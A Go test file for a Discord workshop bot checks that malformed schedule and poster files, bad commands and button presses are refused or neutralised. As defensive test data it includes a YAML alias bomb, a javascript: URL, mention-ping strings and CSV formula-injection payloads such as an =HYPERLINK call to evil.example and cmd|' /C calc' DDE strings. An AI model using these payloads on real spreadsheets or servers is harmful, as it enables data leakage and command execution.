package bot_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"workshopbot/bot"
	"workshopbot/bot/features"
	"workshopbot/bot/questions"
)

// The bad-input tables: malformed files and commands, each with the clear
// outcome it must get. Files go through the parsers (and LoadProgram, for what
// only reading from disk can show); commands through (*Bot).Handle, the
// boundary every transport calls. What needs Discord itself (allowed_mentions
// on the wire, expired interactions, poster channels) is in the main package's
// main_badinput_test.go, against the fake.

// goodSchedule is a valid schedule.yaml; bad cases replace one of its lines.
const goodSchedule = `workshop:
  name: Bad Input Workshop
  short_name: BIW
  timezone: Europe/Berlin
  date: 2026-06-12
discord:
  moderators_role: Moderators
reminders:
  leads: [15m, 0m]
  catch_up: 5m
questions:
  per_ten_minutes: 3
sessions:
  - id: talk
    start: "09:15"
    kind: invited
    title: Solving PDEs with Networks
  - id: posters
    start: "10:00"
    kind: posters
    poster_session: 1
    title: Poster Session
`

// goodPosters is a valid posters.csv for goodSchedule.
const goodPosters = "id,session,title,authors,presenters,abstract,pdf,video\n" +
	"grand,1,GRAND: Graph Neural Diffusion,Ben Chamberlain,bchamberlain,,https://arxiv.org/abs/2106.10934,\n"

// replaceLine returns s with the first line containing old replaced by repl.
func replaceLine(t *testing.T, s, old, repl string) string {
	t.Helper()
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		if strings.Contains(l, old) {
			lines[i] = repl
			return strings.Join(lines, "\n")
		}
	}
	t.Fatalf("no line contains %q", old)
	return ""
}

// TestBadFiles: each malformed schedule.yaml or posters.csv is refused with an
// error naming the file, the place and what is wrong; none is accepted, none
// panics.
func TestBadFiles(t *testing.T) {
	huge := func(prefix string, size int) string {
		return prefix + strings.Repeat("# padding to make the file huge\n", size/32+1)
	}
	// A "billion laughs" YAML: aliases that expand exponentially.
	laughs := "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
	for i, prev := 'b', 'a'; i <= 'i'; i, prev = i+1, i {
		laughs += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", i, i, prev, prev, prev, prev, prev, prev, prev, prev, prev)
	}
	tests := []struct {
		name     string
		schedule string // "" means goodSchedule
		posters  string // "" means goodPosters
		want     []string
	}{
		{name: "10 MB schedule.yaml", schedule: huge(goodSchedule, 10<<20),
			want: []string{"schedule.yaml: ", "10.0 MiB", "more than the 1 MiB limit"}},
		{name: "10 MB posters.csv", posters: huge(goodPosters, 10<<20),
			want: []string{"posters.csv: ", "10.0 MiB", "more than the 4 MiB limit"}},
		{name: "empty schedule.yaml", schedule: "\n",
			want: []string{"schedule.yaml:1", "file is empty"}},
		{name: "binary schedule.yaml", schedule: "\x00\x01\x02PK\x03\x04 not yaml \xff\xfe",
			want: []string{"schedule.yaml:1", "control character U+0000"}},
		{name: "sessions is a string, not a list", schedule: goodSchedule[:strings.Index(goodSchedule, "sessions:")] + "sessions: every hour\n",
			want: []string{"schedule.yaml:13", "sessions: want a list of sessions"}},
		{name: "start is a number", schedule: replaceLine(t, goodSchedule, `start: "09:15"`, `    start: 915`),
			want: []string{"schedule.yaml:15", "sessions[0].start", `"915" is not a time`}},
		{name: "start out of range", schedule: replaceLine(t, goodSchedule, `start: "09:15"`, `    start: "25:00"`),
			want: []string{"schedule.yaml:15", "sessions[0].start", `"25:00" is not a time`}},
		{name: "lead is not a duration", schedule: replaceLine(t, goodSchedule, "leads:", "  leads: [banana]"),
			want: []string{"schedule.yaml:9", "reminders.leads[0]", `"banana" is not a duration`}},
		{name: "huge lead", schedule: replaceLine(t, goodSchedule, "leads:", "  leads: [100000000h]"),
			want: []string{"schedule.yaml:9", "reminders.leads[0]", `"100000000h"`}},
		{name: "negative catch_up", schedule: replaceLine(t, goodSchedule, "catch_up:", "  catch_up: -5m"),
			want: []string{"schedule.yaml:10", "reminders.catch_up", `"-5m"`}},
		{name: "huge per_ten_minutes", schedule: replaceLine(t, goodSchedule, "per_ten_minutes:", "  per_ten_minutes: 99999999999999999999999"),
			want: []string{"schedule.yaml:12", "questions.per_ten_minutes", "from 1 to 100"}},
		{name: "unknown time zone", schedule: replaceLine(t, goodSchedule, "timezone:", "  timezone: Mars/Olympus_Mons"),
			want: []string{"schedule.yaml:4", "workshop.timezone", `"Mars/Olympus_Mons" is not an IANA time zone`}},
		{name: "impossible date", schedule: replaceLine(t, goodSchedule, "date:", "  date: 2026-13-45"),
			want: []string{"schedule.yaml:5", "workshop.date", `"2026-13-45" is not a date`}},
		{name: "invalid UTF-8 in a title", schedule: replaceLine(t, goodSchedule, "title: Solving", "    title: Solving PDEs \xc3\x28 with \xff Networks"),
			want: []string{"schedule.yaml:17", "invalid UTF-8", "save the file as UTF-8"}},
		{name: "unknown key", schedule: replaceLine(t, goodSchedule, "kind: invited", "    kynd: invited"),
			want: []string{"schedule.yaml:16", `unknown key "kynd" (did you mean "kind"?)`}},
		{name: "duplicate session id", schedule: replaceLine(t, goodSchedule, "id: posters", "  - id: talk"),
			want: []string{"schedule.yaml:18", `id "talk" is already used`}},
		{name: "YAML alias bomb", schedule: laughs,
			want: []string{"schedule.yaml:1", `unknown key "a"`}},
		{name: "workshop in year 9999", schedule: replaceLine(t, goodSchedule, "date:", "  date: 9999-12-31"),
			want: []string{"schedule.yaml:5", "workshop.date", "not a plausible workshop date"}},
		{name: "workshop in year 0000", schedule: replaceLine(t, goodSchedule, "date:", "  date: 0000-01-01"),
			want: []string{"schedule.yaml:5", "workshop.date", "not a plausible workshop date"}},
		{name: "session years from the workshop date", schedule: replaceLine(t, goodSchedule, `start: "09:15"`, `    start: "9999-12-31T23:00:00Z"`),
			want: []string{"schedule.yaml:14", "sessions[0].start", "more than a year from the workshop date"}},
		{name: "lead beyond 7 days", schedule: replaceLine(t, goodSchedule, "leads:", "  leads: [200h, 0m]"),
			want: []string{"schedule.yaml:9", "reminders.leads[0]", "at most 7 days"}},
		{name: "escaped control character in a title", schedule: replaceLine(t, goodSchedule, "title: Solving", `    title: "Solving \x1b[31mPDEs"`),
			want: []string{"schedule.yaml:17", "control character U+001B", "written as an escape"}},
		{name: "poster session is a word", posters: strings.Replace(goodPosters, "grand,1,", "grand,one,", 1),
			want: []string{"posters.csv:2", "session", `"one"`}},
		{name: "poster session does not exist", posters: strings.Replace(goodPosters, "grand,1,", "grand,99,", 1),
			want: []string{"posters.csv:2", "session: there is no poster session 99"}},
		{name: "huge poster session number", posters: strings.Replace(goodPosters, "grand,1,", "grand,99999999999999999999999,", 1),
			want: []string{"posters.csv:2", `"99999999999999999999999" is not a poster session number`}},
		{name: "invalid UTF-8 in a poster title", posters: strings.Replace(goodPosters, "GRAND:", "GR\xffAND:", 1),
			want: []string{"posters.csv:2", "invalid UTF-8"}},
		{name: "presenter is not a username", posters: strings.Replace(goodPosters, ",bchamberlain,", ",bob#12,", 1),
			want: []string{"posters.csv:2", "presenters", "bob#12"}},
		{name: "unknown column", posters: strings.Replace(goodPosters, "video\n", "video,room\n", 1),
			want: []string{"posters.csv:1", `unknown column "room"`}},
		{name: "duplicate poster id", posters: goodPosters + "grand,1,Another,Someone,,,,\n",
			want: []string{"posters.csv:3", `id "grand" is already used at line 2`}},
		{name: "script URL as pdf", posters: strings.Replace(goodPosters, "https://arxiv.org/abs/2106.10934", "javascript:alert(1)", 1),
			want: []string{"posters.csv:2", "pdf:", "not a web address"}},
		{name: "unterminated quote", posters: goodPosters + "\"open,1,Never closed\n",
			want: []string{"posters.csv:3", "not valid CSV"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			sched, posters := tt.schedule, tt.posters
			if sched == "" {
				sched = goodSchedule
			}
			if posters == "" {
				posters = goodPosters
			}
			sp, pp := filepath.Join(dir, "schedule.yaml"), filepath.Join(dir, "posters.csv")
			if err := os.WriteFile(sp, []byte(sched), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(pp, []byte(posters), 0o644); err != nil {
				t.Fatal(err)
			}
			prog, err := bot.LoadProgram(sp, pp)
			if err == nil {
				t.Fatalf("accepted: %d sessions, %d posters", len(prog.Schedule.Sessions), len(prog.Posters))
			}
			// Errors name the file by the path they were given; show it short.
			msg := strings.ReplaceAll(err.Error(), dir+string(filepath.Separator), "")
			for _, w := range tt.want {
				if !strings.Contains(msg, w) {
					t.Errorf("error does not say %q:\n%s", w, msg)
				}
			}
			if len(msg) > 4000 {
				t.Errorf("error is %d bytes long; a clear error is short:\n%.300s...", len(msg), msg)
			}
			t.Logf("%s", firstLine(msg))
		})
	}
}

func firstLine(s string) string {
	l, _, _ := strings.Cut(s, "\n")
	return l
}

// TestBadCommands: malformed, unknown, out-of-place and unauthorised commands
// and button presses each get a private answer that says what is wrong, and
// change nothing.
func TestBadCommands(t *testing.T) {
	e := newEnv(t, false)
	// The bot of newEnv, with posters and a transport that can send DMs, so
	// that /posters and /remindme check their options.
	posters := []bot.Poster{{ID: "grand", Session: 1, Title: "GRAND: Graph Neural Diffusion", Authors: []string{"Ben Chamberlain"}, Line: 2}}
	b, err := bot.New(bot.Config{Features: features.All(), Program: &bot.Program{Schedule: e.sched, Posters: posters}, Clock: e.clock,
		Store: e.db, Questions: e.db, Transport: dmRecorder{e.tr}})
	if err != nil {
		t.Fatal(err)
	}
	e.b = b
	stop := e.run(e.b)
	defer stop()
	q := e.mustAsk(alice, "A good question about stiff solvers?")
	tooLong := strings.Repeat("é", questions.MaxQuestion+1)

	type tc struct {
		name string
		cmd  bot.Command
		want []string // in the reply, which must be ephemeral
	}
	cmd := func(u bot.User, name string, opts ...string) bot.Command {
		o := map[string]string{}
		for i := 0; i+1 < len(opts); i += 2 {
			o[opts[i]] = opts[i+1]
		}
		return bot.Command{Name: name, Options: o, User: u, Channel: "panel-questions"}
	}
	press := func(u bot.User, id string) bot.Command {
		return bot.Command{User: u, Button: id, Channel: "panel-questions"}
	}
	tests := []tc{
		{"unknown command", cmd(alice, "frobnicate"), []string{"Unknown command `/frobnicate`", "/help"}},
		{"unknown sub-command", cmd(alice, "questions explode"), []string{"Unknown command `/questions explode`"}},
		{"empty command", bot.Command{User: alice}, []string{"Unknown command"}},
		{"/ask without its option", cmd(alice, "ask"), []string{"10"}},
		{"/ask too short", cmd(bob, "ask", "question", "why?"), []string{"4 characters", "10"}},
		{"/ask too long", cmd(bob, "ask", "question", tooLong), []string{"1001 characters", "limit is 1000"}},
		{"/ask only spaces", cmd(bob, "ask", "question", strings.Repeat(" \t", 20)), []string{"10"}},
		{"/ask invalid UTF-8", cmd(bob, "ask", "question", "Why does \xff\xfe the adjoint \xc3\x28 blow up?"), []string{"UTF-8"}},
		{"/ask for an unknown session", cmd(bob, "ask", "question", "A fine question for nobody?", "session", "no-such-session"), []string{"no-such-session"}},
		{"moderator command by an attendee", cmd(alice, "questions next"), []string{"for moderators", "Moderators"}},
		{"moderator export by an attendee", cmd(bob, "questions export"), []string{"for moderators"}},
		{"question id not a number", cmd(mod, "questions answered", "id", "abc"), []string{"abc"}},
		{"question id negative", cmd(mod, "questions dismiss", "id", "-1"), []string{"-1"}},
		{"question id overflows", cmd(mod, "questions reopen", "id", "99999999999999999999999"), []string{"99999999999999999999999"}},
		{"question id unknown", cmd(mod, "questions answered", "id", "424242"), []string{"424242"}},
		{"unknown status filter", cmd(mod, "questions list", "status", "bogus"), []string{"bogus", "open"}},
		{"button of another bot", press(alice, "poll:yes"), []string{"not known"}},
		{"button without a question", press(alice, "q:vote:"), []string{"not known"}},
		{"button with a word for a number", press(alice, "q:vote:abc"), []string{"not known"}},
		{"button number overflows", press(alice, "q:vote:99999999999999999999999"), []string{"not known"}},
		{"button for an unknown question", press(alice, "q:vote:424242"), []string{"424242"}},
		{"button with an unknown action", press(alice, fmt.Sprintf("q:explode:%d", q)), []string{"not known"}},
		{"moderator button by an attendee", press(alice, fmt.Sprintf("q:dismiss:%d", q)), []string{"moderators"}},
		{"/workshop delay by an attendee", cmd(alice, "workshop delay", "session", "talk", "minutes", "10"), []string{"for moderators"}},
		{"/posters page zero", cmd(alice, "posters", "page", "0"), []string{"1 pages", "from 1 to 1"}},
		{"/posters page overflows", cmd(alice, "posters", "page", "99999999999999999999999"), []string{"from 1 to 1"}},
		{"/posters huge query", cmd(alice, "posters", "query", strings.Repeat("neural ", 10000)), []string{"1 posters matching"}},
		{"/posters huge query that matches nothing", cmd(alice, "posters", "query", strings.Repeat("zebra ", 10000)), []string{"No poster matches"}},
		{"/poster topic outside a poster channel", cmd(alice, "poster topic", "text", "hello"), []string{"oster"}},
		{"/remindme for an unknown session", cmd(alice, "remindme", "session", "nope"), []string{"nope"}},
		{"/remindme before negative", cmd(alice, "remindme", "session", "talk", "before", "-5"), []string{"before"}},
		{"/remindme before huge", cmd(alice, "remindme", "session", "talk", "before", "99999999999999999999999"), []string{"before"}},
	}
	before := e.all()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := e.b.Handle(context.Background(), tt.cmd)
			t.Logf("%.300q", r.Content)
			if !r.Ephemeral {
				t.Errorf("reply is public: %q", r.Content)
			}
			if r.Update != nil || len(r.Files) > 0 {
				t.Errorf("reply changes a message or sends a file: %+v", r)
			}
			for _, w := range tt.want {
				if !strings.Contains(r.Content, w) {
					t.Errorf("reply %.300q does not say %q", r.Content, w)
				}
			}
			if n := utf8.RuneCountInString(r.Content); n > bot.MaxContent {
				t.Errorf("reply is %d characters; Discord allows %d", n, bot.MaxContent)
			}
			if strings.Contains(r.Content, "internal error") {
				t.Errorf("bad input reached an internal error: %q", r.Content)
			}
		})
	}
	after := e.all()
	if len(after) != len(before) {
		t.Errorf("%d questions stored after the bad commands, want %d (none added)", len(after), len(before))
	}
	for i := range after {
		if after[i].Status != before[i].Status || after[i].Votes != before[i].Votes {
			t.Errorf("question #%d changed: %+v -> %+v", after[i].ID, before[i], after[i])
		}
	}

	// An autocomplete request with a huge typed value still answers, with at
	// most 25 choices.
	r := e.b.Handle(context.Background(), bot.Command{Name: "ask", Focused: "session", User: alice,
		Options: map[string]string{"session": strings.Repeat("x", 1<<20)}})
	if len(r.Choices) > 25 {
		t.Errorf("autocomplete for a 1 MB value: %d choices", len(r.Choices))
	}
}

// dmRecorder is the recorder with direct messages, so /remindme is on.
type dmRecorder struct{ *recorder }

func (d dmRecorder) DM(ctx context.Context, userID string, m bot.Message) error {
	_, err := d.Post(ctx, m)
	return err
}

// TestExportDefusesCSVInjection: question text, asker names and session titles
// that a spreadsheet would run as formulas are exported with a leading '.
func TestExportDefusesCSVInjection(t *testing.T) {
	e := newEnv(t, false)
	stop := e.run(e.b)
	defer stop()
	payloads := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click for the slides")`,
		`+cmd|' /C calc'!A0 is my question`,
		`-2+3 is not five, is it?`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1 hidden behind a tab",
		"\r=1+1 hidden behind a carriage return",
	}
	for i, p := range payloads {
		u := bot.User{ID: fmt.Sprint(300 + i), Name: "=cmd|' /C calc'!A" + fmt.Sprint(i)}
		e.mustAsk(u, p)
	}
	r := e.cmd(mod, "questions export")
	if len(r.Files) != 1 {
		t.Fatalf("/questions export: %q with %d files, want the CSV", r.Content, len(r.Files))
	}
	rows, err := csv.NewReader(bytes.NewReader(r.Files[0].Data)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v", err)
	}
	found := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
			for _, p := range payloads {
				if cell == "'"+strings.TrimSpace(p) { // questions are stored trimmed
					found++
				}
			}
		}
	}
	if found != len(payloads) {
		t.Errorf("%d of %d questions exported as '-prefixed text:\n%s", found, len(payloads), r.Files[0].Data)
	}
}

// TestMentionInjectionInMessages: text from attendees and from the files that
// holds @everyone, role or user mentions never asks to ping anyone. (The
// transports turn an empty PingUsers and a false PingRole into
// allowed_mentions {"parse": []}; main_badinput_test.go checks the wire.)
func TestMentionInjectionInMessages(t *testing.T) {
	const inject = "@everyone @here <@&123456789012345678> <@987654321098765432> <@!987654321098765432>"
	sched, err := bot.ParseSchedule("schedule.yaml", []byte(strings.Replace(goodSchedule,
		"title: Solving PDEs with Networks", "title: \""+inject+"\"", 1)))
	if err != nil {
		t.Fatal(err)
	}
	posters, err := bot.ParsePosters("posters.csv", []byte(strings.Replace(goodPosters, "GRAND: Graph Neural Diffusion", inject, 1)), sched)
	if err != nil {
		t.Fatal(err)
	}
	prog := &bot.Program{Schedule: sched, Posters: posters}
	var msgs []bot.Message
	for _, r := range bot.Plan(sched) {
		// A reminder may set PingRole: that pings the configured reminder_role
		// and nothing else (none is configured here).
		m := bot.RenderReminder(prog, r, r.Due, false)
		m.PingRole = false
		msgs = append(msgs, m)
	}
	msgs = append(msgs, bot.PosterCard(sched, posters[0], nil))
	msgs = append(msgs, bot.QuestionCard(sched, bot.Question{ID: 1, Text: "Q: " + inject, SessionID: "talk",
		AskerID: "201", AskerName: inject, Status: bot.QuestionOpen}))
	quoted := 0
	for _, m := range msgs {
		if m.PingRole || len(m.PingUsers) > 0 {
			t.Errorf("message asks to ping (role %v, users %v): %.100q", m.PingRole, m.PingUsers, m.Content)
		}
		text := m.Content
		for _, em := range m.Embeds {
			text += em.Title + em.Description
		}
		if strings.Contains(text, "@everyone") {
			quoted++
		}
	}
	if quoted == 0 {
		t.Errorf("no message quotes the injected text; the test does not test anything")
	}
}

// TestScheduleThatIsAFIFO: a named pipe given as schedule.yaml is refused at
// once; opening it to read would block until a writer came.
func TestScheduleThatIsAFIFO(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "schedule.yaml")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skipf("mkfifo: %v", err)
	}
	posters := filepath.Join(dir, "posters.csv")
	if err := os.WriteFile(posters, []byte(goodPosters), 0o600); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { _, err := bot.LoadProgram(fifo, posters); done <- err }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "not a regular file (a named pipe)") {
			t.Fatalf("LoadProgram on a FIFO: %v, want it refused as a named pipe", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("LoadProgram blocked on a FIFO")
	}
}
